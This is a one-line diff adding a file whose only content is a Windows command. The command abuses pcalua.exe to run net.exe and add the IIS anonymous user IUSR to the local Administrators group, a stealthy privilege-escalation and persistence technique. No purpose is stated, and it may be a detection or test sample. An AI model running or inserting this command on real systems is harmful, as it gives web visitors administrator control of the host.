@@ -1,0 +1,1 @@
+pcalua.exe -a net.exe -c "localgroup Administrators IUSR /add"
